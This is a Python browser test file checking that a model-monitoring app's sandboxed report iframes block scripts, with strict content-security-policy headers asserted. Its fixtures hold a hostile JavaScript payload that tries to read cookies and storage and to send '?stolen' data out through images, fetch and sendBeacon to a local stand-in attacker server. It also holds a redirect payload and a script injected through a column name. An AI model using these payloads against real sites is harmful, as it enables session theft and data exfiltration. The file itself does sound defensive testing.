"""Reports of libraries in a real browser: they draw, and a script in them reads nothing and reaches nobody."""

from __future__ import annotations

import socket
import threading
from contextlib import suppress
from types import SimpleNamespace

import numpy as np
import pandas as pd
import pytest

from app.engines.evidently import drift_report
from app.engines.reports import Side, with_banner
from tests.checks.planted import declaration, features_of
from tests.scorecards import stored

from .test_browser import chromium, serving, site, tab  # noqa: F401 - fixtures

pytestmark = pytest.mark.slow

TRY = """
window.tried = {};
const attempt = (name, act) => {
    try { window.tried[name] = String(act()); } catch (error) { window.tried[name] = "refused"; }
};
attempt("cookie", () => document.cookie);
attempt("parent", () => window.parent.document.body.innerText);
attempt("storage", () => window.localStorage.length);
attempt("top", () => { window.top.location = "/checks"; return "led away"; });
attempt("popup", () => window.open("/checks") ? "opened" : "refused");
fetch("/api/v1/models", {credentials: "include"}).then(
    () => { window.tried.fetch = "answered"; }, () => { window.tried.fetch = "refused"; });
for (const place of ["", "ELSEWHERE"]) {
    new Image().src = place + "/static/icon.svg?stolen";
    fetch(place + "/stolen", {mode: "no-cors"}).catch(() => null);
    try { navigator.sendBeacon(place + "/stolen", "stolen"); } catch (error) { /* refused */ }
}
window.ran = true;
"""
HOSTILE = f"<script>{TRY}</script>"


@pytest.fixture
def planted(database, blobs):
    """``planted(html)``: the id of a finding with this report."""

    def plant(html: bytes) -> int:
        with database.write() as session:
            version = stored.version(session, stored.model(session, "reported"))
            shown = {"name": "a report", "media_type": "text/html", "digest": blobs.put_bytes(html).digest}
            return stored.finding(session, version, "MODEL-6", exhibits=[shown]).id

    return plant


@pytest.fixture
def elsewhere():
    """A server of somebody else on this machine, which notes what it is asked."""
    asked = []
    with socket.create_server(("127.0.0.1", 0)) as listener:

        def watch() -> None:
            with suppress(OSError):
                while True:
                    visitor = listener.accept()[0]
                    with visitor, suppress(TimeoutError):
                        visitor.settimeout(1)
                        asked.append(visitor.recv(1000))

        thread = threading.Thread(target=watch, daemon=True)
        thread.start()
        yield SimpleNamespace(address=f"http://127.0.0.1:{listener.getsockname()[1]}", asked=asked)
        listener.shutdown(socket.SHUT_RDWR)
    thread.join()


@pytest.fixture
def quiet_tab(tab):  # noqa: F811
    """A tab whose console may say what was refused; ``answered`` lists every address that answered it."""
    browser = tab()
    browser.answered = []
    browser.page.on("response", lambda answer: browser.answered.append(answer.url))
    yield browser
    browser.wrong.clear()


def report_frame(page):
    page.wait_for_selector("iframe.report")
    page.locator("iframe.report").scroll_into_view_if_needed()
    page.wait_for_function("() => window.frames.length === 1")
    frame = page.query_selector("iframe.report").content_frame()
    frame.wait_for_load_state()
    return frame


def tried(frame):
    frame.wait_for_function("() => window.ran && window.tried.fetch")
    return frame.evaluate("window.tried")


@pytest.mark.parametrize("alone", [False, True])
def test_a_script_in_a_report_reads_nothing_and_reaches_nobody(quiet_tab, planted, elsewhere, alone):
    hostile = HOSTILE.replace("ELSEWHERE", elsewhere.address)
    page = with_banner(f"<html><body><table><td>{hostile}</td></table></body></html>", "a sample")
    finding = f"/findings/{planted(page)}"
    shown = quiet_tab.open(f"{finding}/exhibits/0" if alone else finding)
    frame = report_frame(shown)
    assert tried(frame) == dict.fromkeys(("cookie", "parent", "storage", "top", "popup", "fetch"), "refused")
    exhibit = f"{quiet_tab.address}{finding}/exhibits/0"
    shown.wait_for_timeout(300)
    assert shown.url == (exhibit if alone else f"{quiet_tab.address}{finding}")
    assert [url for url in quiet_tab.answered if "stolen" in url or "/api/" in url or "/checks" in url] == []
    assert exhibit in quiet_tab.answered
    assert [text for text in elsewhere.asked if text] == []


@pytest.mark.parametrize("alone", [False, True])
def test_a_report_cannot_lead_its_frame_to_another_site(quiet_tab, planted, elsewhere, alone):
    html = f"<html><body><script>location = '{elsewhere.address}/?stolen'</script></body></html>".encode()
    shown = quiet_tab.open(f"/findings/{planted(html)}" + ("/exhibits/0" if alone else ""))
    report_frame(shown)
    shown.wait_for_timeout(1500)
    assert [text for text in elsewhere.asked if text] == []


def test_the_listener_elsewhere_notices_a_visit(quiet_tab, elsewhere):
    with suppress(Exception):
        quiet_tab.page.goto(elsewhere.address, timeout=2000)
    assert elsewhere.asked[0].startswith(b"GET / ")


def test_the_answer_itself_is_caged(client, planted):
    answer = client("viewer").get(f"/findings/{planted(b'<p>report</p>')}/exhibits/0")
    policy = answer.headers["content-security-policy"].split("; ")
    assert "sandbox allow-scripts" in policy
    assert "default-src 'none'" in policy
    assert "frame-ancestors 'self'" in policy
    assert not [part for part in policy if part.startswith("connect-src") or "allow-same-origin" in part]
    assert answer.headers["content-type"] == "text/html; charset=utf-8"
    assert answer.headers["x-content-type-options"] == "nosniff"


def test_evidentlys_report_draws_in_its_frame_and_its_column_names_run_nothing(quiet_tab, planted):
    rng = np.random.default_rng(3)
    name = "<script>window.ran = true</script>"
    frames = [pd.DataFrame({"age": rng.normal(40 + n, 9, 200), name: rng.normal(n, 1, 200)}) for n in (0, 1)]
    declared = declaration(features=features_of(frames[0]))
    report = drift_report(declared, Side("predictions logged", frames[1]), Side("training rows", frames[0]))
    shown = quiet_tab.open(f"/findings/{planted(report.exhibit.content)}")
    frame = report_frame(shown)
    assert "200 of 200 predictions logged" in frame.locator("#assay-sample").inner_text()
    frame.wait_for_selector(".js-plotly-plot svg", timeout=60_000)
    assert not frame.evaluate("window.ran || false")
    assert {url for url in quiet_tab.answered if not url.startswith((quiet_tab.address, "data:", "blob:"))} == set()
